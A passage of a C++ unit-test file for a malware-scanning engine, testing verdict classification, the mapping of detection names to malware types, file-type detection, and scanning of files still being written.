  EXPECT_EQ(Classify(Quick("exe", true), &moderate).type, VerdictType::kSuspicious);
  const Verdict v = Classify(Quick("exe", true), &lots);
  EXPECT_EQ(v.type, VerdictType::kSuspicious);  // static analysis alone never says MALICIOUS
  EXPECT_EQ(v.score, 89);
  EXPECT_TRUE(v.detected_malware.empty());
  const StaticResult none;
  EXPECT_EQ(Classify(Quick("pdf", true), &none).submission, "Clean");
  EXPECT_EQ(Classify(Quick("pdf", true), nullptr).type, VerdictType::kBenign);
}

TEST(ClassifyTest, EntropyAndUnknownFormats) {
  QuickResult blob = Quick("bin", false);
  EXPECT_EQ(Classify(blob, nullptr).type, VerdictType::kUnknown);
  EXPECT_EQ(Classify(blob, nullptr).category, "UNKNOWN");
  EXPECT_EQ(Classify(blob, nullptr).submission, "Unknown");
  blob.entropy = 7.9;
  EXPECT_EQ(Classify(blob, nullptr).type, VerdictType::kSuspicious);
  EXPECT_EQ(Classify(blob, nullptr).score, 30);
  blob.hashes.size = 512;  // too small for the entropy estimate to mean much
  EXPECT_EQ(Classify(blob, nullptr).type, VerdictType::kUnknown);
  QuickResult zip = Quick("zip", true);  // compressed by design
  zip.entropy = 7.99;
  EXPECT_EQ(Classify(zip, nullptr).type, VerdictType::kBenign);
}

TEST(VirusTypeTest, Mapping) {
  EXPECT_EQ(VirusTypeFromName(""), "");
  EXPECT_EQ(VirusTypeFromName("Eicar-Test-Signature"), "Virus");
  EXPECT_EQ(VirusTypeFromName("EICAR_Test_File"), "Virus");
  EXPECT_EQ(VirusTypeFromName("Clamav.Test.File-clam.exe"), "Virus");
  EXPECT_EQ(VirusTypeFromName("Win.Trojan.Emotet-9953"), "Trojan");
  EXPECT_EQ(VirusTypeFromName("Unix.Worm.Mirai-1"), "Worm");
  EXPECT_EQ(VirusTypeFromName("Win.Ransomware.Locky-1"), "Ransomware");
  EXPECT_EQ(VirusTypeFromName("Win.Adware.Foo"), "Adware");
  EXPECT_EQ(VirusTypeFromName("Win.Keylogger.Bar"), "Spyware");
  EXPECT_EQ(VirusTypeFromName("PUA.Win.Packer.Baz"), "PUA");
  EXPECT_EQ(VirusTypeFromName("Doc.Downloader.Qux"), "Trojan");
  EXPECT_EQ(VirusTypeFromName("Something.Else"), "Virus");
}

TEST(FileTypeTest, FromLibmagicAnswers) {
  struct Case {
    const char* mime;
    const char* desc;
    const char* head;
    const char* type;
    const char* category;
  };
  const Case cases[] = {
      {"application/vnd.microsoft.portable-executable", "PE32 executable (DLL) (GUI) Intel 80386",
       "", "dll", "EXECS"},
      {"application/x-dosexec", "MS-DOS executable", "", "exe", "EXECS"},
      {"application/x-pie-executable", "ELF 64-bit LSB pie executable", "", "elf", "EXECS"},
      {"application/vnd.openxmlformats-officedocument.wordprocessingml.document",
       "Microsoft Word 2007+", "", "docx", "DOCS"},
      {"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "Microsoft Excel 2007+",
       "", "xlsx", "DOCS"},
      {"application/x-ole-storage", "Composite Document File V2 Document, MSI Installer", "", "msi",
       "EXECS"},
      {"application/java-archive", "Java archive data (JAR)", "", "jar", "JAR"},
      {"application/vnd.android.package-archive", "Android package (APK)", "", "apk", "ANDROID"},
      {"application/zip", "Zip archive data", "PK..AndroidManifest.xml..classes.dex", "apk",
       "ANDROID"},
      {"application/zip", "Zip archive data", "PK..[Content_Types].xml..word/document.xml", "docx",
       "DOCS"},
      {"application/x-shockwave-flash", "Macromedia Flash data", "", "swf", "FLASH"},
      {"application/x-rar", "RAR archive data", "", "rar", "ARCHIVE"},
      {"text/plain", "ASCII text", "Set s = CreateObject(\"WScript.Shell\")\nEnd Sub\n", "vbs",
       "SCRIPT"},
      {"text/plain", "ASCII text",
       "var a = document.getElementById('x'); function f() { return 1; }\n", "js", "SCRIPT"},
      {"text/plain", "ASCII text", "@echo off\r\necho hi\r\n", "bat", "SCRIPT"},
      {"text/plain", "ASCII text", "Dear reader, this is a letter.\n", "txt", "OTHER"},
      {"image/png", "PNG image data", "", "png", "OTHER"},
      {"application/x-sqlite3", "SQLite 3.x database", "", "sqlite3", "OTHER"},
      {"application/octet-stream", "data", "", "bin", "OTHER"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.desc);
    const FileTypeInfo ft = DetectFileType(c.mime, c.desc, c.head);
    EXPECT_EQ(ft.type, c.type);
    EXPECT_EQ(ft.category, c.category);
    EXPECT_EQ(ft.identified, std::string(c.type) != "bin");
  }
}

// ScanAv with follow_bytes (the child of Engine::StartAvScan): the file is still being written;
// each read waits for the bytes it needs, so a signature in the last bytes, written after the scan
// began, is found. A scan that does not follow the file sees only what is there: clean.
TEST(FollowingScan, FindsASignatureWrittenAfterTheScanBegan) {
  TempDir sigs, work;
  const std::string marker = "SANDGATE-FOLLOWING-SCAN-MARKER-7f3a";
  std::string hex;
  for (unsigned char c : marker) {
    char b[3];
    std::snprintf(b, sizeof b, "%02x", c);
    hex += b;
  }
  sigs.Write("follow.ndb", "Sandgate.Test.Following:0:*:" + hex + "\n");
  EngineConfig config;
  config.signatures_dir = sigs.path();
  config.load_rules = false;
  auto engine = Engine::Load(config);
  ASSERT_TRUE(engine.ok()) << engine.status().message();

  const std::string head(4 << 20, 'a');
  const uint64_t total = head.size() + marker.size();
  const std::string path = work.Write("growing.bin", head);
  std::string virus, av_error;
  ASSERT_TRUE((*engine)->ScanAv(path, &virus, &av_error).ok());
  EXPECT_EQ(virus, "") << "the marker is not written yet";

  std::atomic<bool> scanning{false};
  std::thread writer([&] {
    while (!scanning.load()) std::this_thread::yield();
    std::this_thread::sleep_for(std::chrono::milliseconds(300));  // the scan is waiting by now
    std::ofstream(path, std::ios::binary | std::ios::app) << marker;
  });
  scanning = true;
  virus.clear();
  Status st = (*engine)->ScanAv(path, &virus, &av_error, total);
  writer.join();
  ASSERT_TRUE(st.ok()) << st.message();
  EXPECT_EQ(av_error, "");
  EXPECT_TRUE(virus.starts_with("Sandgate.Test.Following")) << virus;
}

// A following scan whose file stops growing gives up after the stall time instead of waiting
// forever: an error or a ClamAV error, never a clean verdict.
TEST(FollowingScan, GivesUpWhenTheFileStopsGrowing) {
  TempDir work;
  EngineConfig config;
  config.load_rules = false;
  auto engine = Engine::Load(config);
  ASSERT_TRUE(engine.ok()) << engine.status().message();
  const std::string path = work.Write("stalled.bin", std::string(1 << 20, 'b'));
  std::string virus, av_error;
  const auto t0 = std::chrono::steady_clock::now();
  Status st = (*engine)->ScanAv(path, &virus, &av_error, 2 << 20, /*follow_stall_ms=*/300);
  const auto took = std::chrono::steady_clock::now() - t0;
  EXPECT_TRUE(!st.ok() || !av_error.empty()) << "a file that never reached its size is no verdict";
  EXPECT_EQ(virus, "");
  EXPECT_LT(took, std::chrono::seconds(30)) << "bounded: it did not wait for the missing bytes";
}

}  // namespace
}  // namespace sandgate::analysis
